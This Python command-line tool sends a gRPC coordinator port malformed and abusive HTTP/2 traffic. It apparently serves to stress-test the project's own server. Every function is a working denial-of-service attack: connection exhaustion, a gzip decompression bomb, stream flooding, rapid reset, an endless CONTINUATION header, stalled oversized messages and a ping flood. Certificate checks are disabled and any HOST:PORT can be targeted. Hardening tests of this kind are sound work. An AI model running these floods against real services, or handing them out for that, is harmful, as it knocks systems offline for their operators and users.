#!/usr/bin/env python3
"""A peer without a token that attacks a coordinator's port: flood.py ATTACK ADDRESS [OPTION...]

It speaks just enough HTTP/2 (RFC 9113) to break its rules, and prints what became of the attack:
  idle          opens connections and says nothing
  gzip          sends one small message that inflates to a large one
  streams       begins requests on one connection and finishes none
  reset         begins requests and cancels each at once
  continuation  sends a header that never ends
  messages      begins large messages on one connection and stops before their ends
  pings         asks for answers and reads none"""

import argparse
import collections
import select
import socket
import ssl
import struct
import sys
import time
import zlib

MIB = 1 << 20
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CANCEL = 8
INITIAL_WINDOW_SIZE = 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A header that HPACK neither indexes nor compresses. Both texts have less than 127 bytes."""
    return b"\0" + b"".join(bytes([len(text)]) + text for text in (name.encode(), value.encode()))


def request_headers(*more):
    """The headers of a call that any worker would make."""
    headers = [(":method", "POST"), (":scheme", "http"), (":path", "/triarch.v1.WorkerService/Register"),
               (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]
    return b"".join(literal(*header) for header in headers + list(more))


class Connection:
    """A connection whose reads never block. A write fails with OSError when the server has had enough."""

    def __init__(self, options):
        host, port = options.address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=5,
                                               source_address=(options.source, 0))
        if options.tls:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            self.socket = context.wrap_socket(self.socket)
        self.unread = b""

    def begin(self, *settings):
        self.write(PREFACE + frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *one) for one in settings)))

    def write(self, data):
        self.socket.sendall(data)

    def frames(self, seconds):
        """Yields the (kind, stream, payload) that arrive in that time, or until the server hangs up."""
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            # A TLS record may already be in the library's buffer.
            if not getattr(self.socket, "pending", lambda: 0)():
                if not select.select([self.socket], [], [], max(0, until - time.monotonic()))[0]:
                    return
            data = self.socket.recv(1 << 16)
            if not data:
                return
            self.unread += data
            while len(self.unread) >= 9:
                size = int.from_bytes(self.unread[:3], "big")
                if len(self.unread) < 9 + size:
                    break
                kind, _, stream = struct.unpack(">BBI", self.unread[3:9])
                yield kind, stream, self.unread[9:9 + size]
                self.unread = self.unread[9 + size:]

    def is_alive(self, seconds=0.5):
        """Whether the server keeps the connection open for that time."""
        try:
            for kind, _, _ in self.frames(seconds):
                if kind == GOAWAY:
                    return False
            return select.select([self.socket], [], [], 0)[0] == []
        except OSError:
            return False


def say(text):
    print(text, flush=True)


# ---- Connections.


def idle(options):
    """Holds its connections until the time is over, and notes how many the server kept."""
    connections = []
    try:
        while len(connections) < options.count:
            connections.append(Connection(options))
    except OSError as error:
        say(f"refused after {len(connections)} connections: {error}")
    say(f"{len(connections)} connections")
    time.sleep(options.seconds)
    open_ones = 0
    for connection in connections:
        connection.socket.setblocking(False)
        try:
            while connection.socket.recv(4096):  # a gRPC server sends its settings at once
                pass
        except (BlockingIOError, ssl.SSLWantReadError):
            open_ones += 1
        except OSError:
            pass
    say(f"{open_ones} still open")


# ---- Streams.


def gzip(options):
    """The message consists of zeros and has `--count` MiB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = b"".join(packer.compress(bytes(MIB)) for _ in range(options.count)) + packer.flush()
    connection = Connection(options)
    connection.begin()
    connection.write(frame(HEADERS, END_HEADERS, 1, request_headers(("grpc-encoding", "gzip"))))
    send_message(connection, {1: b"\1" + struct.pack(">I", len(packed)) + packed}, options.seconds)
    say(f"sent {len(packed)} bytes")
    connection.is_alive(options.seconds)


def messages(options):
    """Each of `--count` messages announces 60 MiB and lacks its last byte."""
    body = b"\0" + struct.pack(">I", 60 * MIB) + bytes(60 * MIB - 1)
    connection = Connection(options)
    connection.begin()
    streams = range(1, 2 * options.count, 2)
    for stream in streams:
        connection.write(frame(HEADERS, END_HEADERS, stream, request_headers()))
    sent = send_message(connection, {stream: body for stream in streams}, options.seconds)
    say(f"sent {sum(sent.values()) // MIB} MiB")


def send_message(connection, bodies, seconds):
    """Sends as much of each stream's body as the server's windows allow. Returns the bytes sent."""
    windows = collections.defaultdict(int, {stream: 65535 for stream in [0, *bodies]})
    initial = 65535
    sent = dict.fromkeys(bodies, 0)
    until = time.monotonic() + seconds
    try:
        while time.monotonic() < until and any(sent[one] < len(bodies[one]) for one in bodies):
            for stream, body in bodies.items():
                size = min(16384, windows[0], windows[stream], len(body) - sent[stream])
                if size > 0:
                    part = body[sent[stream]:sent[stream] + size]
                    connection.write(frame(DATA, 0, stream, part))
                    sent[stream] += size
                    windows[0] -= size
                    windows[stream] -= size
            for kind, stream, payload in connection.frames(0.001):
                if kind == WINDOW_UPDATE:
                    windows[stream] += struct.unpack(">I", payload)[0]
                elif kind == SETTINGS and payload:
                    connection.write(frame(SETTINGS, ACK, 0))
                    for at in range(0, len(payload), 6):
                        name, value = struct.unpack(">HI", payload[at:at + 6])
                        if name == INITIAL_WINDOW_SIZE:
                            for one in bodies:
                                windows[one] += value - initial
                            initial = value
                elif kind == RST_STREAM:
                    say(f"stream {stream} was reset")
                    windows[stream] = -1 << 40
    except OSError as error:
        say(f"cut off: {error}")
    return sent


def streams(options):
    """Never acknowledges the server's settings, so their limits do not hold yet."""
    connection = Connection(options)
    connection.begin()
    headers = request_headers()
    sent = 0
    try:
        while sent < options.count:
            connection.write(b"".join(frame(HEADERS, END_HEADERS, 2 * (sent + i) + 1, headers)
                                      for i in range(500)))
            sent += 500
            for _ in connection.frames(0):
                pass
    except OSError as error:
        say(f"cut off: {error}")
    say(f"{sent} requests begun")
    connection.is_alive(options.seconds)


def reset(options):
    """`--count` connections take turns until the time is over."""
    connections = [Connection(options) for _ in range(options.count)]
    for connection in connections:
        connection.begin()
    headers = request_headers()
    cancel = struct.pack(">I", CANCEL)
    next_stream, sent = 1, 0
    until = time.monotonic() + options.seconds
    while connections and time.monotonic() < until:
        burst = b"".join(frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, cancel)
                         for stream in range(next_stream, next_stream + 1000, 2))
        next_stream += 1000
        for connection in list(connections):
            try:
                connection.write(burst)
                sent += 500
                for _ in connection.frames(0):
                    pass
            except OSError as error:
                say(f"cut off: {error}")
                connections.remove(connection)
    say(f"{sent} requests cancelled, {len(connections)} connections left")


def continuation(options):
    """`--count` MiB of one header."""
    connection = Connection(options)
    connection.begin()
    sent = 0
    try:
        connection.write(frame(HEADERS, 0, 1, request_headers()))
        block = b"".join(literal("a%d" % i, "b" * 100) for i in range(140))
        while sent < options.count * MIB:
            connection.write(frame(CONTINUATION, 0, 1, block))
            sent += len(block)
    except OSError as error:
        say(f"cut off: {error}")
    say(f"sent {sent // 1024} KiB of a header")
    connection.is_alive(options.seconds)


def pings(options):
    """The answers fill the kernel's buffers, and then the server's."""
    connection = Connection(options)
    connection.begin()
    burst = frame(PING, 0, 0, bytes(8)) * 1000 + frame(SETTINGS, 0, 0) * 1000
    sent = 0
    until = time.monotonic() + options.seconds
    connection.socket.settimeout(1)
    try:
        while time.monotonic() < until:
            connection.write(burst)
            sent += 2000
    except OSError as error:
        say(f"cut off: {error}")
    say(f"{sent} pings and settings")


def main():
    attacks = [idle, gzip, streams, reset, continuation, messages, pings]
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=[attack.__name__ for attack in attacks])
    parser.add_argument("address", help="HOST:PORT")
    parser.add_argument("--count", type=int, default=4)
    parser.add_argument("--seconds", type=float, default=4)
    parser.add_argument("--source", default="127.0.0.1", help="connect from this address of the machine")
    parser.add_argument("--tls", action="store_true")
    options = parser.parse_args()
    {attack.__name__: attack for attack in attacks}[options.attack](options)


if __name__ == "__main__":
    sys.exit(main())
